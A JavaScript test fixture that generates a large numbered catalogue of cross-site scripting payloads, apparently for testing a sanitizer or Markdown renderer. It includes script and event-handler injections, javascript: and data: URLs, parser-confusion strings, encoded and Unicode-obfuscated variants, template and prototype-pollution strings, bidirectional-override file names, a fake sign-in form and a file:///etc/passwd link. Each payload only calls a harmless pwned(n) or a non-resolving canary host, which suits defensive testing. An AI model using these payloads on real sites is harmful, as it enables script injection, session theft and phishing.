// Text that wants to be more than text, made by combination. Each string that would run calls `pwned` with its own number,
// and each that would load asks a host that does not exist for that number, so that a report names its string.

const HOST = "canary.invalid";

const entities = (text) => [...text].map((letter) => `&#${letter.codePointAt(0)};`).join("");
const hexEntities = (text) => [...text].map((letter) => `&#x${letter.codePointAt(0).toString(16)}`).join("");
const base64 = (text) => Buffer.from(text).toString("base64");
const wide = (text) =>
  text.replace(/[!-~]/g, (letter) => String.fromCodePoint(letter.codePointAt(0) + 0xfee0));

const scripts = [
  ({ run }) => `<script>${run}</script>`,
  ({ run }) => `<SCRIPT>${run}</SCRIPT>`,
  ({ run }) => `<sCrIpT >${run}</sCrIpT >`,
  ({ run }) => `<script\n>${run}</script\n>`,
  ({ run }) => `<script/x>${run}</script>`,
  ({ run }) => `<script\t/>${run}</script\t>`,
  ({ run }) => `</script><script>${run}</script>`,
  ({ run }) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  ({ run }) => `<<script>${run}//<</script>`,
  ({ away }) => `<script src=${away}></script>`,
  ({ away }) => `<script src="${away}" async defer></script>`,
  ({ away }) => `<script type=module>import "https:${away}"</script>`,
  ({ run }) => `<script src="data:text/javascript,${run}"></script>`,
  ({ run }) => `<script type=text/jscript>${run}`,
  ({ run }) => `<scr\u0000ipt>${run}</scr\u0000ipt>`,
  ({ run }) => `<\u017fcript>${run}</\u017fcript>`,
  ({ run }) => `<svg><script>${run}</script></svg>`,
  ({ run }) => `<svg><script href="data:text/javascript,${run}" /></svg>`,
  ({ run }) => `<!--><script>${run}</script>-->`,
  ({ run }) => `<!-- --!><script>${run}</script>`,
  ({ run }) => `<select><script>${run}</script></select>`,
  ({ run }) => `<table><script>${run}</script></table>`,
  ({ run }) => `<template><script>${run}</script></template>`,
  ({ run }) => `<xmp></xmp><script>${run}</script>`,
  ({ run }) => `<![CDATA[<script>${run}</script>]]>`,
  ({ run }) => `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
];

const HANDLERS = [
  ["img", 'src="x"', "onerror"],
  ["img", 'src="/mark.svg"', "onload"],
  ["svg", "", "onload"],
  ["body", "", "onload"],
  ["body", "", "onpageshow"],
  ["video", 'src="x"', "onerror"],
  ["audio", 'src="x"', "onerror"],
  ["input", "autofocus", "onfocus"],
  ["textarea", "autofocus", "onfocus"],
  ["select", "autofocus", "onfocusin"],
  ["button", "autofocus", "onfocus"],
  ["details", "open", "ontoggle"],
  ["iframe", "", "onload"],
  ["object", 'data="x"', "onerror"],
  ["embed", 'src="/mark.svg"', "onload"],
  ["marquee", "", "onstart"],
  ["div", 'style="position:fixed;inset:0"', "onpointermove"],
  ["div", 'tabindex="0" id="f"', "onfocus"],
  ["p", 'style="animation:turn2 1s"', "onanimationstart"],
  ["style", "", "onload"],
  ["link", 'rel="stylesheet" href="x"', "onerror"],
  ["form", "", "onfocusin"],
  ["dialog", "open", "onbeforetoggle"],
  ["a", 'href="#"', "onclick"],
  ["x", "contenteditable autofocus", "onfocus"],
  ["math", 'tabindex="0" autofocus', "onfocus"],
];
const SEPARATORS = [" ", "/", "\n", "\t", "\f"];
const QUOTES = ["", '"', "'"];

/** Elements with handlers, each spelt in three of the ways that readers of HTML put up with. */
const handlers = HANDLERS.flatMap(([name, with_, event], at) =>
  [0, 1, 2].map((turn) => ({ run }) => {
    const apart = SEPARATORS[(at + turn) % SEPARATORS.length];
    const quote = QUOTES[(at + 2 * turn) % QUOTES.length];
    const spelt = turn === 1 ? event.toUpperCase() : event;
    const rest = with_ === "" ? "" : `${apart}${with_}`;
    return `<${turn === 2 ? name.toUpperCase() : name}${rest}${apart}${spelt}=${quote}${run}${quote}>`;
  }),
);

/** Addresses that do something when they are gone to, or loaded. */
const ADDRESSES = [
  ({ run }) => `javascript:${run}`,
  ({ run }) => `JaVaScRiPt:${run}`,
  ({ run }) => `java\tscript:${run}`,
  ({ run }) => `javascript\u00a0:${run}`,
  ({ run }) => `\u0001javascript:${run}`,
  ({ run }) => `javascript&colon;${run}`,
  ({ run }) => `java&Tab;script&#58;${run}`,
  ({ run }) => `${entities("javascript:")}${run}`,
  ({ run }) => `${hexEntities("javascript")};:${run}`,
  ({ run }) => `javascript%3A${run}`,
  ({ run }) => `javascript://%0a${run}`,
  ({ run }) => `javascript:\\u0070wned${run.slice("pwned".length)}`,
  ({ run }) => `\u202ejavascript:${run}`,
  ({ run }) => `javascript\u200b:${run}`,
  ({ run }) => `${wide("javascript")}:${run}`,
  ({ run }) => `vbscript:${run}`,
  ({ run }) => `livescript:${run}`,
  ({ run }) => `view-source:javascript:${run}`,
  ({ run }) => `feed:javascript:${run}`,
  ({ run }) => `data:text/html,<script>parent.${run}</script>`,
  ({ run }) => `data:text/html;base64,${base64(`<script>parent.${run}</script>`)}`,
  ({ run }) =>
    `data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`)}`,
  ({ run }) => `DATA:text/javascript,${run}`,
  ({ away }) => `blob:https:${away}`,
  () => "file:///etc/passwd",
  ({ away }) => `${away}`,
  ({ away }) => `\\\\${away.slice(2)}`,
  ({ away }) => `ftp:${away}`,
];
const LINKS = [
  (address) => `[a link](${address})`,
  (address) => `[a link](<${address}> "name")`,
  (address) => `<${address}>`,
  (address) => `![a picture](${address})`,
  (address, number) => `[a link][r${number}]\n\n[r${number}]: ${address}`,
  (address) => `<a href="${address}">a link</a>`,
  (address) => `[![a picture](${address})](${address})`,
  (address) => `<iframe src="${address}"></iframe>`,
];

const links = ADDRESSES.flatMap((address) =>
  LINKS.map((form) => (marks) => form(address(marks), marks.number)),
);

const loads = [
  ({ away }) => `![a picture](https:${away}/a.png)`,
  ({ away }) => `![a picture](https:${away}/a.png "name")`,
  ({ away, number }) => `![a picture][p${number}]\n\n[p${number}]: https:${away}/b.png`,
  ({ away }) => `[![a picture](https:${away}/c.png)](https:${away}/c)`,
  ({ away }) => `| picture |\n| --- |\n| ![a picture](https:${away}/d.png) |`,
  ({ away }) => `<img src=https:${away}>`,
  ({ away }) => `<img srcset="https:${away} 2x">`,
  ({ away }) => `<picture><source srcset=https:${away}><img></picture>`,
  ({ away }) => `<video poster=https:${away}></video>`,
  ({ away }) => `<audio src=https:${away} autoplay></audio>`,
  ({ away }) => `<video><track default src=https:${away}></video>`,
  ({ away }) => `<input type=image src=https:${away}>`,
  ({ away }) => `<object data=https:${away}></object>`,
  ({ away }) => `<embed src=https:${away}>`,
  ({ away }) => `<iframe src=https:${away}></iframe>`,
  ({ away }) => `<frameset><frame src=https:${away}></frameset>`,
  ({ away }) => `<body background=https:${away}>`,
  ({ away }) => `<table background=https:${away}><tr><td>x</table>`,
  ({ away }) => `<svg><image href=https:${away} /></svg>`,
  ({ away }) => `<svg><use href=https:${away}#x /></svg>`,
  ({ away }) => `<svg><filter><feImage href=https:${away} /></filter></svg>`,
  ({ away }) => `<link rel=stylesheet href=https:${away}>`,
  ({ away }) => `<link rel=prefetch href=https:${away}>`,
  ({ away }) => `<link rel=preconnect href=https:${away}>`,
  ({ away }) => `<link rel=icon href=https:${away}>`,
  ({ away }) => `<meta http-equiv=refresh content="0;url=https:${away}">`,
  ({ away }) => `<base href=https:${away}/>`,
  ({ away }) => `<form action=https:${away}><button autofocus>Sign in again</button></form>`,
  ({ away }) => `<a href=# ping=https:${away}>x</a>`,
  ({ away }) => `<style>@import "https:${away}";</style>`,
  ({ away }) => `<style>*{background:url(https:${away})}</style>`,
  ({ away }) => `<style>@font-face{font-family:x;src:url(https:${away})}*{font-family:x}</style>`,
  ({ away }) => `<div style="background:url(https:${away})">x</div>`,
  ({ away }) => `<div style='background:url("https:${away}'>x</div>`,
  ({ run }) => `<div style="width:expression(${run})">x</div>`,
  ({ away }) => `<div style="-moz-binding:url(https:${away}#x);behavior:url(https:${away})">x</div>`,
  ({ away }) => `<link rel=stylesheet href="data:text/css,*{background:url(https:${away})}">`,
];

/** What other readers of HTML make of it after they read, wrote and read it again. */
const rereads = [
  ({ run }) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  ({ run }) => `<svg><a><set attributeName=href to="javascript:${run}" /><text y=9>x</text></a></svg>`,
  ({ run }) => `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
  ({ run }) => `<svg><desc><![CDATA[</desc><script>${run}</script>]]></svg>`,
  ({ run }) => `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  ({ run }) => `<svg><style><img title="</style><img src=x onerror=${run}>"></svg>`,
  ({ run }) => `<svg></p><style><g id="</style><img src=x onerror=${run}>">`,
  ({ run }) => `<math><maction actiontype=statusline xlink:href="javascript:${run}">x</maction></math>`,
  ({ run }) => `<math href="javascript:${run}"><mtext>x</mtext></math>`,
  ({ run }) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=${run}&gt;">`,
  ({ run }) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  ({ run }) =>
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  ({ run }) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  ({ run }) => `<textarea><p title="</textarea><img src=x onerror=${run}>">`,
  ({ run }) => `<title><p title="</title><img src=x onerror=${run}>">`,
  ({ run }) => `<template><s><template><s><img src=x onerror=${run}></s></template></s></template>`,
  ({ run }) => `<a href="x"><table><a href="y"><img src=x onerror=${run}></a></table></a>`,
  ({ run }) => `<p id="\u0060\u0060onmouseover=${run}\u0060">x</p>`,
  ({ run }) => `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  ({ run }) => `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`,
  ({ run }) => `<form id=watched><input name=pwned><input name=onerror value=${run}></form>`,
  ({ run }) => `<a id=body name=cookie href="javascript:${run}">x</a>`,
];

const spelt = ["<img src=x onerror=RUN>", "<svg onload=RUN>", "<script>RUN</script>"].flatMap((html) =>
  [
    entities,
    hexEntities,
    (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
    (text) => text.replaceAll("<", "&amp;lt;").replaceAll(">", "&amp;gt;"),
    (text) => text.replaceAll("<", "&lt").replaceAll(">", "&gt"),
    (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
    (text) => text.replaceAll("<", "\\x3c").replaceAll(">", "\\x3e"),
    (text) => text.replaceAll("<", "\\<").replaceAll(">", "\\>"),
    encodeURIComponent,
    wide,
    (text) => `+ADw-${text.slice(1, -1)}+AD4-`,
    (text) => `\ufeff${text}`,
    (text) => text.replaceAll("o", "\u200bo"),
    (text) => text.replaceAll(" ", "\u2028"),
    (text) => text.replaceAll("<", "\u2039").replaceAll(">", "\u203a"),
  ].map(
    (spell) =>
      ({ run }) =>
        spell(html.replace("RUN", run)),
  ),
);

const markdown = [
  ({ run }) => `**<img src=x onerror=${run}>**`,
  ({ run }) => `_<svg onload=${run}>_ and ~~<svg onload=${run}>~~`,
  ({ run }) => `\`<img src=x onerror=${run}>\` and \`\`\` <script>${run}</script> \`\`\``,
  ({ run }) => `# <img src=x onerror=${run}>`,
  ({ run }) => `> <script>${run}</script>`,
  ({ run }) => `- [x] <img src=x onerror=${run}>\n  1. <svg onload=${run}>`,
  ({ run }) => `| <img src=x onerror=${run}> |\n| :-: |\n| <script>${run}</script> |`,
  ({ run }) => `[<img src=x onerror=${run}>](https://${HOST}/)`,
  ({ run }) => `[x](https://${HOST}/ "\\"onmouseover=${run} x=\\"")`,
  ({ run }) => `[x](https://${HOST}/"onmouseover="${run})`,
  ({ run }) => `[x](<https://${HOST}/\\"onmouseover=${run}>)`,
  ({ run }) => `![" onerror="${run}](https://${HOST}/x.png)`,
  ({ run }) => `![x](https://${HOST}/x.png"onerror="${run})`,
  ({ run }) => `<https://${HOST}/"onmouseover=${run}>`,
  ({ run }) => `https://${HOST}/<script>${run}</script>`,
  ({ run }) => `www.${HOST}/"><svg onload=${run}>`,
  ({ run }) => `[x]: https://${HOST}/ '"><svg onload=${run}>'`,
  ({ run }) => `[^1]: <script>${run}</script>`,
  ({ run }) => `[a [b](javascript:${run}) c](javascript:${run})`,
  ({ run }) => `[a](\\javascript:${run})`,
  ({ run }) => `*[**[<b>](javascript:${run})**](data:text/html,<script>${run}</script>)*`,
  ({ run }) => `    <script>${run}</script>`,
  ({ run }) => `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  ({ run }) => `\`\`\`mermaid\ngraph TD; A-->B; click A href "javascript:${run}"\n\`\`\``,
  ({ run }) => `\`\`\`svg\n<svg onload=${run}></svg>\n\`\`\``,
  ({ run }) => `~~~"><img src=x onerror=${run}>\nx\n~~~`,
  ({ run }) => `$$\\href{javascript:${run}}{x}$$ \\(\\unicode{<img src=x onerror=${run}>}\\)`,
  ({ run }) =>
    `<details open ontoggle=${run}><summary>**x**</summary>\n\n[x](javascript:${run})\n\n</details>`,
  ({ run }) => `\`\`\`\n<script>${run}</script>`,
  ({ run }) => `~~~~ <svg onload=${run}>\n<script>${run}</script>`,
];

const templates = [
  ({ run }) => `{{constructor.constructor('${run}')()}}`,
  ({ run }) => `{{$on.constructor('${run}')()}}`,
  ({ run }) => `\${${run}} #{${run}} @{${run}} *{${run}}`,
  ({ run }) => `<%= ${run} %> {% ${run} %} [[\${${run}}]]`,
  ({ run }) => `<div ng-app ng-csp>{{$eval.constructor('${run}')()}}</div>`,
  ({ run }) => `<div v-html="'<img src=x onerror=${run}>'" @click=${run}></div>`,
  ({ run }) => `<div x-data x-init="${run}" hx-on:load="${run}"></div>`,
  ({ run }) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}`,
  ({ run }) =>
    `{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"x","onError":"${run}"},"ref":null}`,
  ({ run }) => `{"__proto__":{"innerHTML":"<img src=x onerror=${run}>"}}`,
  () => "__proto__",
  () => "constructor",
  () => "toString",
  ({ run }) => `%{(#_='${run}')} \`\${${run}}\` ;${run};`,
  ({ run }) => `\u001b]8;;javascript:${run}\u0007x\u001b]8;;\u0007`,
  ({ run }) => `data: {"text_added":"<script>${run}</script>"}\n\nid: 9`,
];

/** Marks that turn the writing round or cannot be seen. */
const BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c";
const turned = [...BIDI].flatMap((mark) => [
  () => `report${mark}fdp.exe`,
  ({ run }) => `${mark}<img src=x onerror=${run}>${mark}`,
]);

/** Ways out of wherever a text was put, each with something that would run outside. */
const WAYS_OUT = [
  '"',
  "'",
  '">',
  "'>",
  "-->",
  "]]>",
  "*/",
  "?>",
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  "</noscript>",
  "</template>",
  "</iframe>",
  "</svg>",
  "`}",
  "\\",
];
const out = WAYS_OUT.flatMap((way, at) => [
  ({ run }) => (at % 2 === 0 ? `${way}<svg onload=${run}>` : `${way}<img src=x onerror=${run}>`),
  ({ run }) => `${way} autofocus onfocus=${run} x=${way}`,
]);
const polyglots = [
  ({ run }) => `${WAYS_OUT.join("")}<svg onload=${run}>`,
  ({ run }) => `javascript:/*${WAYS_OUT.join("")}<img src=x onerror=${run}>*/${run}`,
  ({ run }) => `[x](javascript:${run})"><svg onload=${run}>{{constructor.constructor('${run}')()}}`,
  ({ run }) => `<!--\`<script>${run}</script>\`--> **[x](data:,${run})** '"/><img src onerror=${run}>`,
];

const FAMILIES = {
  scripts,
  handlers,
  links,
  loads,
  rereads,
  spelt,
  markdown,
  templates,
  turned,
  out,
  polyglots,
};

/** All of them: their number, family and text. */
export const hostile = Object.entries(FAMILIES)
  .flatMap(([family, makers]) => makers.map((make) => ({ family, make })))
  .map(({ family, make }, number) => ({
    number,
    family,
    text: make({ number, run: `pwned(${number})`, away: `//${HOST}/${number}` }),
  }));
